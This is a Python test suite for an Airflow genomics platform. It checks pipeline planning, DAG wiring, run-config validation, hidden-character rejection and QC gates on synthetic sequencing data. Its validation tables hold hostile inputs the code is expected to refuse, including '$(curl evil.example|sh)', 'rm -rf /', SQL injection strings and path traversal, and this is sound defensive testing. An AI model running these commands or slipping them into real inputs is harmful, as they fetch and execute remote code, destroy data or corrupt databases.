"""The rnaseq and germline pipelines: run config checks, planning (skip what is done, fan-out), the step
package (staged I/O, metrics, skip, force, tool errors), and both DAGs end to end on synthetic data, with the
science checked against the truth the data was made from.
"""

from __future__ import annotations

import copy
import gzip
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from genomics_steps import layout, synthetic
from pipeline_plan import ARRAY_CHUNK, PipelineSpec, RunConfigError, pipeline_params, plan_run, refuse_unknown_keys

ROOT = Path(__file__).resolve().parent.parent
SPEC = PipelineSpec(name="rnaseq", steps=["fastp", "salmon_quant"], reference_files=["transcriptome.fa"],
                    index_tool="salmon")
LAKE = "s3://lake-bucket/genomics"


class FakeLake:
    """Listings of a lake holding reads for ``with_reads`` and complete results for ``done``; counts calls."""

    def __init__(self, with_reads, done=(), index=True, reference=("transcriptome.fa",)):
        self.calls: list[str] = []
        self.files = {
            layout.reference_prefix(LAKE, "ref1"): list(reference) + (["index/salmon/metrics.json"] if index else []),
            layout.raw_prefix(LAKE, "P1"): [f"{s}_R{i}.fastq.gz" for s in with_reads for i in (1, 2)],
            layout.results_prefix(LAKE, "rnaseq", "1.0", "P1"): [
                f"sample={s}/{step}/{name}" for s in done for step in SPEC.steps for name in ("out.tsv", "metrics.json")
            ],
        }

    def list_files(self, prefix: str) -> list[str]:
        self.calls.append(prefix)
        return self.files.get(prefix, [])


def plan(lake: FakeLake, approved=(), backend="aws", max_map_length=1024, **params):
    config = {"project": "P1", "reference": "ref1", "pipeline_version": "1.0", "samples": ["S1"], **params}
    return plan_run(SPEC, config, lake_root=LAKE, backend=backend, list_files=lake.list_files,
                    approved_samples=lambda project: list(approved), max_map_length=max_map_length)


# --- planning: what runs, decided before any submission -----------------------------------------------
def test_samples_with_complete_outputs_are_not_run_again_decided_by_one_listing_each():
    samples = [f"S{i:04d}" for i in range(1536)]
    lake = FakeLake(samples, done=samples[:1382])  # 90% already done
    got = plan(lake, samples=samples)
    assert got["todo"] == samples[1382:] and len(got["done"]) == 1382
    assert len(lake.calls) == 3, "reference, reads and results: one listing each, whatever the sample count"
    assert got["fan_out"] == "array" and sum(map(len, got["units"])) == 154


def test_force_runs_every_sample_again():
    lake = FakeLake(["S1", "S2"], done=["S1", "S2"])
    assert plan(lake, samples=["S1", "S2"])["todo"] == []
    assert plan(lake, samples=["S1", "S2"], force=True)["todo"] == ["S1", "S2"]


def test_a_sample_missing_one_step_is_run_again():
    lake = FakeLake(["S1"], done=["S1"])
    lake.files[layout.results_prefix(LAKE, "rnaseq", "1.0", "P1")].remove("sample=S1/salmon_quant/metrics.json")
    assert plan(lake)["todo"] == ["S1"]


@pytest.mark.parametrize("count, fan_out, mode, sizes", [
    (3, "auto", "mapped", [1, 1, 1]),
    (1536, "auto", "array", [ARRAY_CHUNK, ARRAY_CHUNK, ARRAY_CHUNK, 36]),
    (3, "array", "array", [3]),
    (150, "mapped", "mapped", [1] * 150),
])
def test_fan_out_units(count, fan_out, mode, sizes):
    samples = [f"S{i}" for i in range(count)]
    got = plan(FakeLake(samples), samples=samples, fan_out=fan_out)
    assert got["fan_out"] == mode and [len(u) for u in got["units"]] == sizes
    assert [s for unit in got["units"] for s in unit] == samples


def test_mapped_fan_out_over_max_map_length_is_refused():
    samples = [f"S{i}" for i in range(30)]
    with pytest.raises(RunConfigError, match="max_map_length 20"):
        plan(FakeLake(samples), samples=samples, fan_out="mapped", max_map_length=20)


def test_all_approved_resolves_through_the_registry_and_refuses_an_empty_project():
    assert plan(FakeLake(["A", "B"]), approved=["A", "B"], samples="all approved")["samples"] == ["A", "B"]
    with pytest.raises(RunConfigError, match="no approved samples in project 'P1'"):
        plan(FakeLake([]), samples="all approved")


@pytest.mark.parametrize("change, message", [
    ({"samples": ["S1", "S9"]}, r"1 sample\(s\) have no .*\['S9'\]"),
    ({"samples": ["S1; rm -rf /"]}, "invalid sample id"),
    ({"samples": ["../S1"]}, "invalid sample id"),
    ({"samples": ["S1", "S1"]}, r"lists \[.S1.\] more than once"),
    ({"samples": []}, "non-empty list"),
    ({"project": "P1' OR '1'='1"}, "project"),
    ({"pipeline_version": "1.0/../../x"}, "pipeline_version"),
    ({"reference": "missing"}, "reference 'missing' lacks"),
    ({"fan_out": "sideways"}, "fan_out"),
    ({"force": "yes"}, "force must be true or false"),
    ({"input_uri": "http://example.org/reads/"}, "input_uri"),
    ({"input_uri": "s3://bucket/reads"}, "input_uri"),  # a prefix ends in '/'
    ({"input_uri": "file:///data/reads/"}, "local path"),  # jobs on AWS cannot read it
    ({"input_uri": "s3://bucket/$(id)/"}, "input_uri"),
    ({"samples": ["S1", "$(curl evil.example|sh)"]}, "invalid sample id"),
    ({"samples": ["S1", "S1' OR '1'='1"]}, "invalid sample id"),
    ({"samples": ["S1\nS2"]}, "invalid sample id"),
    ({"project": "p`reboot`"}, "project"),
    ({"project": 3}, "project"),
    ({"samples": 5}, "non-empty list"),
    ({"samples": [1, 2]}, "invalid sample id"),
    ({"samples": {"S1": True}}, "non-empty list"),
    ({"samples": [f"S{i}" for i in range(10_001)]}, "at most 10000 samples"),
    ({"min_q30_rate": 1.5}, r"min_q30_rate must be a number from 0 to 1, got 1\.5"),
    ({"min_reads": "10000"}, "min_reads must be a whole number of at least 1, got '10000'"),
    ({"min_reads": 0}, "min_reads must be a whole number of at least 1, got 0"),
    ({"min_reads": True}, "min_reads must be a whole number of at least 1, got True"),
    ({"min_mapping_rate": -0.01}, r"min_mapping_rate must be a number from 0 to 1, got -0\.01"),
    ({"min_mapping_rate": float("nan")}, "min_mapping_rate must be a number from 0 to 1, got nan"),
])
def test_bad_run_config_is_refused_with_a_clear_message(change, message):
    with pytest.raises(RunConfigError, match=message):
        plan(FakeLake(["S1"]), **change)


def test_unknown_run_config_keys_are_refused_together_each_with_the_closest_known_key():
    known = pipeline_params()
    conf = {"samples": ["S1"], "pipline_version": "2.0", "sampels": ["S2"], "colour": "red"}
    with pytest.raises(RunConfigError) as refused:
        refuse_unknown_keys(conf, known)
    lines = str(refused.value).splitlines()[1:]
    assert lines == [" - unknown key 'colour'; the keys are " + ", ".join(sorted(known)),
                     " - unknown key 'pipline_version'; did you mean 'pipeline_version'?",
                     " - unknown key 'sampels'; did you mean 'samples'?"]
    refuse_unknown_keys({"samples": ["S1"], "force": True}, known)  # known keys pass
    refuse_unknown_keys(None, known)  # a run triggered without a config


def test_missing_index_is_planned_for_building_and_present_index_is_not():
    assert plan(FakeLake(["S1"], index=False))["index_needed"] is True
    assert plan(FakeLake(["S1"], index=True))["index_needed"] is False


# --- the DAGs ----------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def _parsed_dags():
    from airflow.dag_processing.dagbag import DagBag

    return DagBag(dag_folder=str(ROOT / "dags"))


@pytest.fixture
def dagbag(_parsed_dags):
    """The parsed DAGs, their Params as parsed for every test. In one process, dag.test() writes a run's conf
    into the DAG's own Param objects (Airflow merges the conf into a ParamsDict holding those objects): a run
    given input_uri would hand it to the next test's run that gives none. A worker runs each task in a fresh
    process, where this cannot happen. The tasks' own copies are put back too."""
    holders = [dag.params for dag in _parsed_dags.dags.values()]
    holders += [task.params for dag in _parsed_dags.dags.values() for task in dag.tasks if task.params]
    defaults = [(params, {name: params.get_param(name).value for name in params}) for params in holders]
    yield _parsed_dags
    for params, values in defaults:
        for name, value in values.items():
            params.get_param(name).value = value


def test_pipeline_dags_chain_their_steps_per_sample_and_publish_their_tables(dagbag):
    expected = {
        "rnaseq": (["fastp", "salmon_quant"], "salmon_index", ["transcript_quant", "gene_quant", "qc_metrics", "job_runs",
                                                               "run_reports", "rnaseq_matrices"]),
        "germline": (["bwa_mem", "markdup", "call", "stats"], "bwa_index", ["variant_calls", "qc_metrics", "job_runs",
                                                                          "cohort_variants", "run_reports"]),
    }
    for dag_id, (steps, index, tables) in expected.items():
        dag = dagbag.dags[dag_id]
        group = dag.task_group_dict["per_sample"]
        assert type(group).__name__ == "MappedTaskGroup", "one unit (sample or array chunk) per mapped group"
        for upstream, downstream in zip(steps, steps[1:]):
            assert dag.get_task(f"per_sample.{upstream}").downstream_task_ids == {f"per_sample.{downstream}"}
        first = dag.get_task(f"per_sample.{steps[0]}")
        assert index in first.upstream_task_ids and first.trigger_rule == "none_failed"
        assert {t.task_id for t in dag.tasks if t.task_id.startswith("publish_")} == {
            f"publish_{t}" for t in [*tables, "sample_outcomes", "sample_costs"]}
        for task in dag.tasks:
            if task.task_id.startswith("per_sample.") or task.task_id == index:
                assert task.pool == "batch_submit"


@pytest.mark.parametrize("dag_id, products", [("rnaseq", {"multiqc", "merge"}), ("germline", {"multiqc"})])
def test_the_run_report_and_the_matrices_are_made_after_outcomes_and_published_before_the_verdict(dagbag, dag_id,
                                                                                                  products):
    dag = dagbag.dags[dag_id]
    assert {t.task_id for t in dag.tasks if t.task_id in ("multiqc", "merge")} == products
    for task_id in products:
        assert "outcomes" in dag.get_task(task_id).get_flat_relative_ids(upstream=True)
    published = {"multiqc": "publish_run_reports", "merge": "publish_rnaseq_matrices"}
    for task_id in products:
        assert task_id in dag.get_task(published[task_id]).upstream_task_ids
        assert published[task_id] in dag.get_task("verdict").upstream_task_ids


@pytest.mark.parametrize("dag_id", ["rnaseq", "germline"])
@pytest.mark.parametrize("change", [
    {"project": "x; DROP TABLE qc_metrics"},
    {"samples": ["ok", "bad id"]},
    {"samples": "every thing"},  # one item: a space does not separate ids
    {"samples": []},
    {"fan_out": "sideways"},
    {"force": "maybe"},
    {"pipeline_version": ""},
    {"input_uri": "ftp://host/reads/"},
    {"project": 3},
    {"samples": 5},
    {"samples": [1, 2]},
    {"samples": ["S1", "S1"]},
    {"samples": [f"S{i}" for i in range(10_001)]},
    {"samples": ["S1", "$(curl evil.example|sh)"]},
    {"reference": "../other"},
    {"min_reads": "many"},
    {"min_reads": 0},
    {"min_q30_rate": 1.5},
    {"min_mapping_rate": -0.1},
])
def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
    from airflow.sdk.exceptions import ParamValidationError

    params = copy.deepcopy(dagbag.dags[dag_id].params)
    with pytest.raises(ParamValidationError):
        params.update(change)
        params.validate()


def test_qc_gate_defaults_follow_nf_core_rnaseq():
    """nf-core/rnaseq: min_trimmed_reads 10000, min_mapped_reads 5 (percent); it has no Q30 minimum."""
    params = pipeline_params()
    assert (params["min_reads"].value, params["min_mapping_rate"].value, params["min_q30_rate"].value) == (
        10_000, 0.05, 0.0)
    assert plan(FakeLake(["S1"]))["todo"] == ["S1"], "a run config without them takes the defaults"


@pytest.mark.parametrize("dag_id, task_id, passed", [
    ("rnaseq", "fastp", {"--min-reads": "min_reads", "--min-q30-rate": "min_q30_rate"}),
    ("rnaseq", "salmon_quant", {"--min-mapping-rate": "min_mapping_rate"}),
    ("germline", "markdup", {"--min-reads": "min_reads", "--min-mapping-rate": "min_mapping_rate"}),
])
def test_the_gated_steps_get_the_runs_qc_minimums(dagbag, dag_id, task_id, passed):
    command = dagbag.dags[dag_id].get_task(f"per_sample.{task_id}").command
    for flag, param in passed.items():
        assert command[command.index(flag) + 1] == f"{{{{ params.{param} }}}}"


def test_the_trigger_form_accepts_a_list_or_all_approved(dagbag):
    for samples in (["S1", "S2"], "all approved"):
        params = copy.deepcopy(dagbag.dags["rnaseq"].params)
        params.update({"samples": samples, "input_uri": "s3://my-bucket/runs/fc1/"})
        assert params.validate()["samples"] == samples


# --- hidden characters: every id, label and URI field of every DAG -------------------------------------
# A value that looks right but carries a character the eye misses. "demo\n" once passed every check (^...$
# lets a final newline through) and wrote into the real demo project's results.
HIDDEN = ["\n", "\r", "\t", "\x00", "\u2028", "\u200b"]
BAD_IDS = ([f"demo{c}" for c in HIDDEN] + [f"de{c}mo" for c in HIDDEN]
           + ["x" * 300, " demo", "demo "])
BAD_URIS = lambda base: ([f"{base}{c}" for c in HIDDEN] + [base.replace("/", f"/{c}", 3) for c in HIDDEN]  # noqa: E731
                         + [f" {base}", f"{base} "])
# field -> (kind, a good value): the fields of each DAG's Params that take ids, labels, lists of ids or URIs.
FIELDS = {
    "rnaseq": {"project": ("id", "demo"), "reference": ("id", "ref1"), "pipeline_version": ("id", "1.0"),
               "samples": ("ids", "S1"), "input_uri": ("uri", "s3://bucket/reads/")},
    "regenie_gwas": {"project": ("id", "demo"), "pipeline_version": ("id", "1.0"), "traits": ("ids", "height"),
                     "genotypes": ("uri", "s3://bucket/gwas/cohort"),
                     "phenotypes": ("uri", "s3://bucket/gwas/phenotypes.tsv"),
                     "covariates": ("uri", "s3://bucket/gwas/covariates.tsv")},
    "geo_ingestion": {"project": ("id", "geo"), "pipeline_version": ("id", "1.0")},
    "batch_events_demo": {"project": ("id", "demo"), "pipeline_version": ("id", "1.0"),
                          "samples": ("ids", "S001"), "fail_sample": ("id", "S001")},
}
FIELDS["germline"] = FIELDS["rnaseq"]


def _bad_cases():
    for dag_id, fields in FIELDS.items():
        for field, (kind, good) in fields.items():
            for bad in (BAD_URIS(good) if kind == "uri" else BAD_IDS):
                value = [good, bad] if kind == "ids" else bad
                yield pytest.param(dag_id, field, value, bad, id=f"{dag_id}-{field}-{bad[:12]!r}")


BAD_CASES = list(_bad_cases())


def test_every_bad_value_is_refused_by_its_rule():
    """The table itself: each hidden-character value is invalid, each good value valid."""
    from genomics_steps import names

    assert len(BAD_CASES) > 200
    for bad in BAD_IDS:
        assert not names.LABEL.ok(bad) and not names.SAMPLE_ID.ok(bad)
    for good in ("demo", "proj_1.x-2", "x" * 64, "S" * 128):
        assert names.SAMPLE_ID.ok(good)


@pytest.mark.parametrize("dag_id, field, value, bad", BAD_CASES)
def test_the_params_schema_refuses_hidden_characters_naming_field_and_value(dagbag, dag_id, field, value, bad):
    """As Airflow validates a run config on the server (jsonschema, re.search on the pattern)."""
    from airflow.sdk.exceptions import ParamValidationError

    params = copy.deepcopy(dagbag.dags[dag_id].params)
    with pytest.raises(ParamValidationError) as refused:
        params.update({field: value})
        params.validate()
    assert f"param {field}" in str(refused.value) and repr(bad) in str(refused.value)


def _first_check(dagbag, dag_id: str, config: dict) -> str:
    """Run the first task's check of ``dag_id`` on ``config``: nothing may be listed, read or submitted."""
    from geo_ingest import IngestConfigError, check_params
    from gwas_plan import plan_gwas

    def untouched(*args):
        pytest.fail(f"the lake was read for a refused run config: {args}")

    if dag_id in ("rnaseq", "germline"):
        with pytest.raises(RunConfigError) as refused:
            plan_run(SPEC, config, lake_root=LAKE, backend="aws", list_files=untouched,
                     approved_samples=untouched, max_map_length=1024)
    elif dag_id == "regenie_gwas":
        with pytest.raises(RunConfigError) as refused:
            plan_gwas(config, lake_root=LAKE, backend="aws", list_files=untouched, read_head=untouched,
                      regenie_here=False)
    elif dag_id == "geo_ingestion":
        with pytest.raises(IngestConfigError) as refused:
            check_params(config)
    else:  # batch_events_demo: its first task, sample_list, checks before the fan-outs submit
        with pytest.raises(ValueError) as refused:
            dag = dagbag.dags[dag_id]
            dag.get_task("sample_list").python_callable(params=config, dag_run=SimpleNamespace(conf=config), dag=dag)
    return str(refused.value)


@pytest.mark.parametrize("dag_id, field, value, bad", BAD_CASES)
def test_the_first_task_refuses_hidden_characters_naming_field_and_value(dagbag, dag_id, field, value, bad):
    """The check that cannot be fooled: even a run config that skipped the schema stops here, before any
    listing or submission."""
    config = {**dagbag.dags[dag_id].params.dump(), field: value}
    if dag_id in ("rnaseq", "germline") and field != "samples":
        config["samples"] = ["S1"]
    message = _first_check(dagbag, dag_id, config)
    assert field in message and repr(bad) in message


def test_params_patterns_read_the_same_in_python_and_javascript(dagbag):
    """Airflow validates Params on the server with Python's re.search; a browser or any JSON-schema tool
    reads the same pattern as a flagless JavaScript RegExp. Both must accept and refuse the same values."""
    import shutil

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    patterns = set()

    def collect(schema):
        if isinstance(schema, dict):
            if isinstance(schema.get("pattern"), str):
                patterns.add(schema["pattern"])
            for value in schema.values():
                collect(value)
        elif isinstance(schema, list):
            for value in schema:
                collect(value)

    for dag_id in FIELDS:
        params = dagbag.dags[dag_id].params
        for name in params:
            collect(params.get_param(name).schema)
    values = ["demo", "proj_1.x-2", "S001", "", "none", "s3://bucket/reads/", "s3://bucket/gwas/cohort",
              "file:///data/x.tsv", "Z", "demoZ", *BAD_IDS, *BAD_URIS("s3://bucket/reads/")]
    cases = [(p, v) for p in sorted(patterns) for v in values]
    script = ("const cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(cases.map(([p, v]) => new RegExp(p).test(v))));")
    out = subprocess.run([node, "-e", script], input=json.dumps(cases), capture_output=True, text=True,
                         timeout=60, check=True).stdout
    in_javascript = json.loads(out)
    in_python = [re.search(p, v) is not None for p, v in cases]
    assert len(patterns) >= 6
    assert [c for c, js, py in zip(cases, in_javascript, in_python) if js != py] == []
    # A trailing newline passes no single-value pattern. A pasted list's (samples) allows line breaks around
    # its ids by design; plan_run splits it and checks every id with a full match (tests/test_sample_lists.py).
    list_patterns = {p for p in patterns if r"[\s,]*" in p}  # names.list_schema's gap between items
    assert list_patterns and any(in_python)
    assert not any(re.search(p, "demo\n") for p in patterns - list_patterns)


@pytest.mark.parametrize("make", [
    lambda: __import__("hooks.sql_render", fromlist=["Label"]).Label("demo\n"),
    lambda: __import__("hooks.sql_render", fromlist=["Label"]).Label("de\u200bmo"),
    lambda: __import__("hooks.sql_render", fromlist=["Ident"]).Ident("qc_metrics\n"),
    lambda: __import__("hooks.sql_render", fromlist=["Location"]).Location("s3://lake/tables/x/\n"),
], ids=["label-newline", "label-zero-width", "ident-newline", "location-newline"])
def test_sql_rendering_refuses_a_trailing_newline(make):
    from hooks.sql_render import UnsafeSqlValue

    with pytest.raises(UnsafeSqlValue, match=r"\\n|\\u200b"):
        make()


@pytest.mark.parametrize("uri", ["file:///tmp/lake/results/rnaseq/1.0/project=demo\n/x.json",
                                 "file:///tmp/lake/project=demo%0A/x.json", "file:///tmp/lake/x#y.json",
                                 "s3://lake/results/project=demo\r/x.json", "s3://lake/x.json?versionId=1"])
def test_the_lake_refuses_a_uri_that_urlparse_would_shorten(tmp_path, uri):
    from genomics_steps import runtime
    from genomics_steps.names import InvalidName
    from hooks import lake
    from platform_settings import PlatformSettings

    uri = uri.replace("file:///tmp/lake", tmp_path.as_uri())
    with pytest.raises(InvalidName, match="URI"):
        lake.write_text(PlatformSettings.resolve(), uri, "{}")
    with pytest.raises(InvalidName, match="URI"):
        runtime.write_uri(uri, b"{}")
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize("args, env, named", [
    (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0\n"], {}, "--pipeline-version '1.0\\n'"),
    (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0", "--input-prefix", "file:///r/\n"], {},
     "--input-prefix 'file:///r/\\n'"),
    (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"], {"GENOMICS_PROJECT": "demo\n"},
     "GENOMICS_PROJECT 'demo\\n'"),
    (["genomics_steps.read_stats", "--pipeline-version", "1.0\u2028"], {}, "--pipeline-version '1.0\\u2028'"),
    (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0", "--min-q30-rate", "1.5"], {},
     "--min-q30-rate must be a number from 0 to 1, got 1.5"),
    (["genomics_steps.germline", "markdup", "--pipeline-version", "1.0", "--min-reads", "0"], {},
     "--min-reads must be a whole number of at least 1, got 0"),
])
def test_a_step_started_by_hand_with_a_bad_argument_refuses_to_run(tmp_path, args, env, named):
    done = run_step(step_env(tmp_path, "S1", **env), *args)
    assert done.returncode == 64, done.stderr
    assert named in done.stderr
    assert list(tmp_path.rglob("*")) == [], "nothing written to the lake"


# --- the step package --------------------------------------------------------------------------------
def step_env(lake_dir: Path, sample: str, pipeline: str = "rnaseq", **extra) -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT / "include"), "GENOMICS_LAKE_URI": f"file://{lake_dir}",
            "GENOMICS_PROJECT": "P1", "GENOMICS_PIPELINE": pipeline, "GENOMICS_SAMPLE": sample,
            "GENOMICS_VCPUS": "1", **extra}


def run_step(env, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", *args], env=env, capture_output=True, text=True, timeout=300)


def test_a_step_records_metrics_skips_when_done_and_force_redoes_it(tmp_path):
    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    synthetic.write_sample(f"file://{lake}", "P1", "ref1", "S1", "rnaseq")
    args = ["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"]
    metrics = lake / "results/rnaseq/1.0/project=P1/sample=S1/fastp/metrics.json"

    first = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-1"), *args)
    assert first.returncode == 0, first.stderr
    doc = json.loads(metrics.read_text())
    assert doc["job_id"] == "job-1" and doc["tools"]["fastp"] not in ("", "unknown")
    assert doc["runtime_seconds"] > 0 and doc["peak_memory_mib"] > 100  # fastp's own memory, not ours
    assert doc["image"] and doc["metrics"]["reads_before"] == 80_000
    staged = lake / "staging/qc_metrics/rnaseq/1.0/project=P1/sample_id=S1/fastp.tsv"
    assert staged.read_text().startswith("tool\tmetric\tvalue\nfastp\treads_before\t80000\n")

    again = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-2"), *args)
    assert again.returncode == 0 and "nothing to do" in again.stdout
    assert json.loads(metrics.read_text())["job_id"] == "job-1", "a skipped step writes nothing"

    forced = run_step(step_env(lake, "S1", AWS_BATCH_JOB_ID="job-3"), *args, "--force", "True")
    assert forced.returncode == 0, forced.stderr
    assert json.loads(metrics.read_text())["job_id"] == "job-3"


def test_a_failing_tool_ends_the_job_with_its_exit_code_and_its_own_error_last(tmp_path):
    lake = tmp_path / "lake"
    raw = lake / "raw/P1"
    raw.mkdir(parents=True)
    for mate in ("R1", "R2"):  # not gzip at all, as after a broken upload
        (raw / f"BAD_{mate}.fastq.gz").write_bytes(b"@read1\nACGT\n+\nIIII\n")
    out = run_step(step_env(lake, "BAD"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0")
    assert out.returncode != 0
    assert "step fastp failed: fastp exited with code 255:\nERROR: igzip: Error invalid gzip header" in out.stderr
    assert not (lake / "results/rnaseq/1.0/project=P1/sample=BAD/fastp/metrics.json").exists()


def test_a_tool_that_reports_its_error_on_stdout_has_that_error_in_the_failure(tmp_path, monkeypatch):
    from genomics_steps.step import Step, StepFailed

    monkeypatch.setenv("GENOMICS_LAKE_URI", (tmp_path / "lake").as_uri())
    monkeypatch.setenv("GENOMICS_PROJECT", "P1")
    step = Step("fit", output_prefix=(tmp_path / "out").as_uri(), outputs=[], tools=[])
    tool = [sys.executable, "-c", "import sys; print('progress 1', flush=True); "
                                  "sys.stderr.write('warning 2\\n'); sys.stderr.flush(); "
                                  "print('ERROR: Cannot write log file x/fit.log', flush=True); sys.exit(3)"]
    with pytest.raises(StepFailed) as failed:
        step.run(tool)
    assert failed.value.exit_code == 3
    assert str(failed.value).endswith(
        "exited with code 3:\nprogress 1\nwarning 2\nERROR: Cannot write log file x/fit.log")


def test_reads_that_fastp_cannot_parse_stop_the_step(tmp_path):
    raw = tmp_path / "lake/raw/P1"
    raw.mkdir(parents=True)
    for mate in ("R1", "R2"):  # gzip, but not FASTQ: fastp reads nothing and says nothing
        (raw / f"EMPTY_{mate}.fastq.gz").write_bytes(gzip.compress(b"no reads here\n"))
    out = run_step(step_env(tmp_path / "lake", "EMPTY"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1")
    assert out.returncode == 1 and "fastp kept no reads (it read 0)" in out.stderr


def test_a_missing_input_is_named(tmp_path):
    out = run_step(step_env(tmp_path / "lake", "NOPE"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1")
    assert out.returncode == 66 and "NOPE_R1.fastq.gz does not exist" in out.stderr


# --- QC gates inside the steps ----------------------------------------------------------------------------
def write_reads(lake: Path, sample: str, r1: bytes, r2: bytes) -> None:
    raw = lake / "raw/P1"
    raw.mkdir(parents=True, exist_ok=True)
    (raw / f"{sample}_R1.fastq.gz").write_bytes(r1)
    (raw / f"{sample}_R2.fastq.gz").write_bytes(r2)


def staged_gate(lake: Path, pipeline: str, sample: str, step: str) -> dict[str, float]:
    """The gate's qc_metrics rows a step staged for ``sample``: metric -> value."""
    text = (lake / f"staging/qc_metrics/{pipeline}/1.0/project=P1/sample_id={sample}/gate_{step}.tsv").read_text()
    rows = [line.split("\t") for line in text.splitlines()[1:]]
    assert {tool for tool, _, _ in rows} == {"gate"}
    return {metric: float(value) for _, metric, value in rows}


def recorded(lake: Path, pipeline: str, sample: str, step: str) -> dict:
    return json.loads((lake / f"results/{pipeline}/1.0/project=P1/sample={sample}/{step}/metrics.json").read_text())


def run_on_local_backend(local, sample: str, pipeline: str, *argv: str) -> tuple[dict, list[str]]:
    """Run a step as a job of the local backend; returns the job's description and the lines of its log."""
    from hooks import backend
    from local_batch.control_plane import wait_for_terminal
    from local_batch.runner import ensure_runner

    ensure_runner(local.local_home)
    plane = backend.batch_api(local).plane
    environment = {"GENOMICS_LAKE_URI": local.lake_root, "GENOMICS_PROJECT": "P1", "GENOMICS_PIPELINE": pipeline,
                   "GENOMICS_SAMPLE": sample, "GENOMICS_VCPUS": "1"}
    job = plane.submit_job({
        "jobName": f"{pipeline}-{sample}", "jobQueue": "genomics-spot", "jobDefinition": f"genomics-{pipeline}",
        "containerOverrides": {"command": ["python3", "-m", f"genomics_steps.{pipeline}", *argv],
                               "environment": [{"name": k, "value": v} for k, v in environment.items()]}})
    detail = wait_for_terminal(plane, job["jobId"], timeout=120)
    return detail, Path(detail["container"]["logStreamName"]).read_text().splitlines()


def test_a_sample_with_too_few_reads_is_excluded_after_fastp_with_the_reason_as_the_last_log_line(local):
    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE

    lake = Path(local.lake_root.removeprefix("file://"))
    synthetic.write_reference(local.lake_root, "ref1")
    write_reads(lake, "TINY", *synthetic.rnaseq_sample("ref1", "TINY", fragments=25)[:2])  # 50 reads
    detail, log = run_on_local_backend(local, "TINY", "rnaseq", "fastp", "--pipeline-version", "1.0")
    assert (detail["status"], detail["container"]["exitCode"]) == ("FAILED", EXCLUDED_EXIT_CODE)
    assert log[-1] == "excluded: the number of reads passing fastp's filters is 50, below min_reads 10000"
    metrics = recorded(lake, "rnaseq", "TINY", "fastp")  # the work is done and its QC figures are published
    assert metrics["metrics"]["reads_after"] == 50 and metrics["gate"]["excluded"] == log[-1][len("excluded: "):]
    assert (lake / "staging/qc_metrics/rnaseq/1.0/project=P1/sample_id=TINY/fastp.tsv").is_file()
    assert staged_gate(lake, "rnaseq", "TINY", "fastp") == {"reads_below_min": 1, "min_reads": 10_000,
                                                            "q30_rate_below_min": 0, "min_q30_rate": 0}


def test_a_sample_with_enough_good_reads_passes_fastps_gate(tmp_path):
    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    write_reads(lake, "GOOD", *synthetic.rnaseq_sample("ref1", "GOOD", fragments=6000)[:2])
    out = run_step(step_env(lake, "GOOD"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0",
                   "--min-q30-rate", "0.9")
    assert out.returncode == 0, out.stderr
    assert not any(line.startswith("excluded:") for line in out.stdout.splitlines())
    assert recorded(lake, "rnaseq", "GOOD", "fastp")["gate"] == {"excluded": None, "flagged": None}
    assert staged_gate(lake, "rnaseq", "GOOD", "fastp") == {"reads_below_min": 0, "min_reads": 10_000,
                                                            "q30_rate_below_min": 0, "min_q30_rate": 0.9}


def test_a_sample_whose_bases_are_below_q30_is_excluded_for_its_q30_rate(tmp_path):
    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE

    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    write_reads(lake, "LOWQ", *synthetic.rnaseq_sample("ref1", "LOWQ", fragments=6000, phred=20)[:2])
    out = run_step(step_env(lake, "LOWQ"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0",
                   "--min-q30-rate", "0.8")
    assert out.returncode == EXCLUDED_EXIT_CODE, out.stderr
    assert out.stdout.splitlines()[-1] == ("excluded: the Q30 rate of the reads as sequenced is 0, "
                                           "below min_q30_rate 0.8")
    assert recorded(lake, "rnaseq", "LOWQ", "fastp")["metrics"]["reads_after"] == 12_000, "enough reads"
    assert staged_gate(lake, "rnaseq", "LOWQ", "fastp")["q30_rate_below_min"] == 1


def test_a_rerun_excludes_an_excluded_sample_again_without_redoing_the_step(tmp_path):
    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE

    lake = tmp_path / "lake"
    synthetic.write_reference(f"file://{lake}", "ref1")
    write_reads(lake, "TINY", *synthetic.rnaseq_sample("ref1", "TINY", fragments=25)[:2])
    args = ["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"]
    first = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-1"), *args)
    assert first.returncode == EXCLUDED_EXIT_CODE, first.stderr

    again = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-2"), *args)
    assert again.returncode == EXCLUDED_EXIT_CODE, "never passed on as if complete"
    assert "nothing to do" in again.stdout and again.stdout.splitlines()[-1] == first.stdout.splitlines()[-1]
    assert recorded(lake, "rnaseq", "TINY", "fastp")["job_id"] == "job-1", "fastp was not run again"

    lowered = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-3"), *args, "--min-reads", "40")
    assert lowered.returncode == 0, "judged again from the recorded figures, with this run's threshold"
    assert recorded(lake, "rnaseq", "TINY", "fastp")["job_id"] == "job-1"
    assert staged_gate(lake, "rnaseq", "TINY", "fastp")["reads_below_min"] == 0


